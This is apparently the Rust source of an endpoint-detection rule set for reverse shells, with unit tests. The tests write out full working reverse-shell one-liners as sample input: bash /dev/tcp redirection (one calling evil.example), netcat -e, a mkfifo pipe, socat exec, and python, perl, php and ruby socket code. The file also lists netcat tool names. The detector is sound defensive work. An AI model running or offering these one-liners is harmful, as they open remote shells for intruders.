//! Reverse shells.
//!
//! * Shell redirection to `/dev/tcp` or `/dev/udp` (`bash -i >& /dev/tcp/h/p 0>&1`).
//! * netcat with an exec option (`nc -e /bin/sh`, `ncat --sh-exec`), or the
//!   named-pipe pattern (`mkfifo f; sh -i < f | nc h p > f`).
//! * socat joining a network address to `exec:`/`system:`.
//! * Interpreter one-liners that open a socket and hand it to a shell or a
//!   pty (python, perl, ruby, php, lua, node).
//! * A shell process itself making an outbound connection (what every one of
//!   the above looks like on the network, whatever the spelling).
//!
//! All map to ATT&CK T1059 (Command and Scripting Interpreter, sub-technique
//! by interpreter) and T1071 / T1095 for the channel.

use edr_sdk::prelude::*;

const AUTHOR: &str = "edr project";

const DEV_TCP: Rule = Rule {
    id: "edr.revshell.dev-tcp",
    title: "Shell redirected to a /dev/tcp socket",
    severity: Severity::High,
    techniques: &["T1059.004", "T1095"],
    author: AUTHOR,
    description: "A shell command line uses bash's /dev/tcp or /dev/udp pseudo-files, the usual way to attach a shell to a remote listener.",
};

const NETCAT_EXEC: Rule = Rule {
    id: "edr.revshell.netcat-exec",
    title: "netcat attaching a shell to a connection",
    severity: Severity::High,
    techniques: &["T1059.004", "T1095"],
    author: AUTHOR,
    description: "netcat/ncat run with an exec option (-e, -c, --exec, --sh-exec), or fed through a named pipe into a shell.",
};

const SOCAT_EXEC: Rule = Rule {
    id: "edr.revshell.socat-exec",
    title: "socat joining a network connection to a program",
    severity: Severity::High,
    techniques: &["T1059.004", "T1095"],
    author: AUTHOR,
    description: "socat with a TCP/UDP/SSL address and an EXEC or SYSTEM address: a shell over the network.",
};

const INTERPRETER_SOCKET: Rule = Rule {
    id: "edr.revshell.interpreter-socket",
    title: "Interpreter one-liner connecting a socket to a shell",
    severity: Severity::High,
    techniques: &["T1059.006", "T1059.004", "T1095"],
    author: AUTHOR,
    description: "Inline python/perl/ruby/php/lua/node code that opens a socket and spawns a shell or pty on it.",
};

const SHELL_CONNECT: Rule = Rule {
    id: "edr.revshell.shell-connect",
    title: "Shell process made an outbound connection",
    severity: Severity::High,
    techniques: &["T1059.004", "T1071"],
    author: AUTHOR,
    description: "A shell (bash, sh, zsh, ...) itself connected to a remote address. Shells do not open sockets unless redirected to /dev/tcp.",
};

const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat"];

/// Interpreters and the flags that introduce inline code.
const INTERPRETERS: &[(&str, &[&str])] =
    &[("python", &["-c"]), ("perl", &["-e", "-E"]), ("ruby", &["-e"]), ("php", &["-r"]), ("lua", &["-e"]), ("node", &["-e", "--eval"])];

fn family(name: &str) -> &str {
    name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
}

/// Reverse-shell detector.
#[derive(Default)]
pub struct ReverseShell;

impl ReverseShell {
    fn check_exec(&self, event: &Event<'_>, exec: &ProcessExec<'_>, findings: &mut Findings) {
        let name = exec.name();
        let cmd = exec.command_line();
        // The redirection onto /dev/tcp is the tell, whatever the shell is called.
        if redirects_to_dev_net(&cmd)
            || ((contains_ci(&cmd, "/dev/tcp/") || contains_ci(&cmd, "/dev/udp/")) && (is_shell(name) || exec.argv.iter().any(|a| is_shell(basename(a)))))
        {
            findings.report(&DEV_TCP, event, format!("{name} redirects a shell to a network socket")).evidence.push(("command_line".into(), cmd));
            return;
        }
        if NETCATS.contains(&name) && exec.argv.iter().skip(1).any(is_exec_flag) {
            findings.report(&NETCAT_EXEC, event, format!("{name} runs a program on a network connection")).evidence.push(("command_line".into(), cmd));
            return;
        }
        if is_shell(name)
            && contains_ci(&cmd, "mkfifo")
            && NETCATS.iter().any(|nc| has_word(&cmd, nc))
            && SHELLS.iter().any(|s| has_word(&cmd, s) || contains_ci(&cmd, &format!("/{s} ")))
        {
            findings.report(&NETCAT_EXEC, event, "named pipe joining a shell and netcat").evidence.push(("command_line".into(), cmd));
            return;
        }
        if name == "socat" {
            let net =
                exec.argv.iter().any(|a| starts_with_ci(a, "tcp") || starts_with_ci(a, "udp") || starts_with_ci(a, "ssl") || starts_with_ci(a, "openssl"));
            let run = exec.argv.iter().any(|a| starts_with_ci(a, "exec:") || starts_with_ci(a, "system:"));
            if net && run {
                findings.report(&SOCAT_EXEC, event, "socat joins a network connection to a program").evidence.push(("command_line".into(), cmd));
            }
            return;
        }
        let fam = family(name);
        if let Some((_, flags)) = INTERPRETERS.iter().find(|(n, _)| *n == fam) {
            let Some(code) = exec.argv.iter().skip(1).position(|a| flags.contains(&a)).and_then(|i| exec.argv.get(i + 2)) else {
                // `ruby -rsocket -e ...` puts the flag later; look at the whole line then.
                if fam == "ruby" && contains_ci(&cmd, "-rsocket") && contains_ci(&cmd, "exec") {
                    findings.report(&INTERPRETER_SOCKET, event, "ruby one-liner spawns a shell on a socket").evidence.push(("command_line".into(), cmd));
                }
                return;
            };
            let socket = contains_any_ci(code, &["socket", "fsockopen", "tcpsocket", "net.connect", "io.popen"]);
            let spawn = contains_any_ci(
                code,
                &["pty.spawn", "dup2", "/bin/sh", "/bin/bash", "exec(", "subprocess", "popen", "system(", "spawn(", "child_process", "sh -i"],
            );
            if socket && spawn {
                findings
                    .report(&INTERPRETER_SOCKET, event, format!("{name} one-liner spawns a shell on a socket"))
                    .evidence
                    .push(("code".into(), code.to_string()));
            }
        }
    }

    fn check_network(&self, event: &Event<'_>, net: &NetworkEvent<'_>, findings: &mut Findings) {
        if net.op != NetworkOp::Connect || net.remote_is_local() {
            return;
        }
        let Some(name) = net.process_name() else { return };
        if is_shell(name) {
            findings
                .report(&SHELL_CONNECT, event, format!("{name} connected to {}:{}", net.remote_ip, net.remote_port))
                .evidence
                .extend([("remote".into(), format!("{}:{}", net.remote_ip, net.remote_port)), ("exe".into(), net.exe.unwrap_or_default().to_string())]);
        }
    }
}

/// netcat's options that run a program on the connection: the long forms,
/// and `-e`/`-c` alone, in a cluster (`-lvnpe`) or glued to a path (`-e/bin/sh`).
fn is_exec_flag(a: &str) -> bool {
    if ["--exec", "--sh-exec", "--lua-exec"].iter().any(|f| a == *f || a.strip_prefix(f).is_some_and(|r| r.starts_with('='))) {
        return true;
    }
    let Some(cluster) = a.strip_prefix('-').filter(|r| !r.starts_with('-')) else { return false };
    let letters = cluster.split(|c: char| !c.is_ascii_alphabetic()).next().unwrap_or("");
    letters.contains(['e', 'c'])
}

/// `word` appears as a whole word (bounded by non-alphanumerics) in `s`.
fn has_word(s: &str, word: &str) -> bool {
    let bytes = s.as_bytes();
    let mut from = 0;
    while let Some(pos) = s[from..].find(word) {
        let start = from + pos;
        let end = start + word.len();
        let before = start == 0 || !(bytes[start - 1].is_ascii_alphanumeric() || bytes[start - 1] == b'.');
        let after = end == bytes.len() || !(bytes[end].is_ascii_alphanumeric() || bytes[end] == b'.');
        if before && after {
            return true;
        }
        from = end;
    }
    false
}

impl Detector for ReverseShell {
    const NAME: &'static str = "reverse-shell";
    const VERSION: &'static str = env!("CARGO_PKG_VERSION");
    const DESCRIPTION: &'static str = "Reverse shells by command line (/dev/tcp, netcat, socat, one-liners) and by shells connecting out";
    const SUBSCRIPTIONS: &'static [EventKind] = &[EventKind::ProcessExec, EventKind::Network];

    fn init(_config: &Config) -> Result<Self, String> {
        Ok(Self)
    }

    fn on_event(&mut self, event: &Event<'_>, findings: &mut Findings) {
        match &event.body {
            EventBody::ProcessExec(x) => self.check_exec(event, x, findings),
            EventBody::Network(n) => self.check_network(event, n, findings),
            _ => {}
        }
    }
}

edr_sdk::export_detector!(ReverseShell);

#[cfg(test)]
mod tests {
    use super::*;
    use edr_sdk::testing::{close, connect, exec, Harness};

    fn rule_of(argv: &[&str]) -> Vec<String> {
        let mut h = Harness::<ReverseShell>::new().unwrap();
        let exe = format!("/usr/bin/{}", argv[0]);
        h.run(&[exec(&exe, argv).build()]).into_iter().map(|f| f.rule_id).collect()
    }

    #[test]
    fn command_lines() {
        assert_eq!(rule_of(&["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]), vec![DEV_TCP.id]);
        assert_eq!(rule_of(&["sh", "-c", "exec 5<>/dev/tcp/evil.example/80; cat <&5 | sh >&5"]), vec![DEV_TCP.id]);
        // A renamed copy of bash is caught by the redirection itself.
        assert_eq!(rule_of(&["kworker", "-c", "exec 5<>/dev/tcp/10.0.0.1/443; sh <&5 >&5"]), vec![DEV_TCP.id]);
        assert_eq!(rule_of(&["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]), vec![NETCAT_EXEC.id]);
        assert_eq!(rule_of(&["nc", "-lvnpe", "4444"]), vec![NETCAT_EXEC.id]);
        assert_eq!(rule_of(&["ncat", "10.0.0.1", "4444", "--sh-exec", "bash"]), vec![NETCAT_EXEC.id]);
        assert_eq!(rule_of(&["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"]), vec![NETCAT_EXEC.id]);
        assert_eq!(rule_of(&["socat", "tcp:10.0.0.1:4444", "exec:/bin/bash,pty,stderr"]), vec![SOCAT_EXEC.id]);
        assert_eq!(
            rule_of(&[
                "python3",
                "-c",
                "import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);import pty;pty.spawn('/bin/sh')"
            ]),
            vec![INTERPRETER_SOCKET.id]
        );
        assert_eq!(rule_of(&["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));connect(S,sockaddr_in(4444,inet_aton('10.0.0.1')));open(STDIN,'>&S');exec('/bin/sh -i');"]), vec![INTERPRETER_SOCKET.id]);
        assert_eq!(rule_of(&["php", "-r", "$sock=fsockopen('10.0.0.1',4444);exec('/bin/sh -i <&3 >&3 2>&3');"]), vec![INTERPRETER_SOCKET.id]);
        assert_eq!(rule_of(&["ruby", "-rsocket", "-e", "c=TCPSocket.new('10.0.0.1','4444');exec(\"/bin/sh -i\")"]), vec![INTERPRETER_SOCKET.id]);
    }

    #[test]
    fn benign_command_lines() {
        assert!(rule_of(&["nc", "-zv", "db.internal", "5432"]).is_empty());
        assert!(rule_of(&["nc", "-l", "8080"]).is_empty());
        assert!(rule_of(&["socat", "tcp-listen:8080,fork", "tcp:backend:80"]).is_empty());
        assert!(rule_of(&["python3", "-c", "import socket; print(socket.gethostname())"]).is_empty());
        assert!(rule_of(&["bash", "-c", "ls /dev/"]).is_empty());
        assert!(rule_of(&["grep", "-r", "/dev/tcp/", "/etc"]).is_empty());
        assert!(rule_of(&["perl", "-e", "print 1"]).is_empty());
    }

    #[test]
    fn shell_connecting_out() {
        let mut h = Harness::<ReverseShell>::new().unwrap();
        let hits =
            h.run(&[connect("/usr/bin/bash", "203.0.113.7", 4444), connect("/usr/bin/curl", "203.0.113.7", 443), connect("/usr/bin/bash", "127.0.0.1", 8080)]);
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].rule_id, SHELL_CONNECT.id);
        assert!(hits[0].evidence.contains(&("remote".to_string(), "203.0.113.7:4444".to_string())));
    }

    /// The close of the same connection is not a second connection out.
    #[test]
    fn a_shells_connection_closing_is_not_a_finding() {
        let mut h = Harness::<ReverseShell>::new().unwrap();
        assert!(h.run(&[close("/usr/bin/bash", "203.0.113.7", 4444, 6, 7)]).is_empty());
        let hits = h.run(&[connect("/usr/bin/bash", "203.0.113.7", 4444), close("/usr/bin/bash", "203.0.113.7", 4444, 6, 7)]);
        assert_eq!(hits.iter().map(|f| f.rule_id.as_str()).collect::<Vec<_>>(), [SHELL_CONNECT.id]);
    }

    #[test]
    fn fixtures() {
        let mut h = Harness::<ReverseShell>::new().unwrap();
        let pos = h.run_fixture("tests/fixtures/positive.jsonl");
        assert_eq!(pos.len(), 3, "{pos:#?}");
        assert!(h.run_fixture("tests/fixtures/negative.jsonl").is_empty());
    }
}
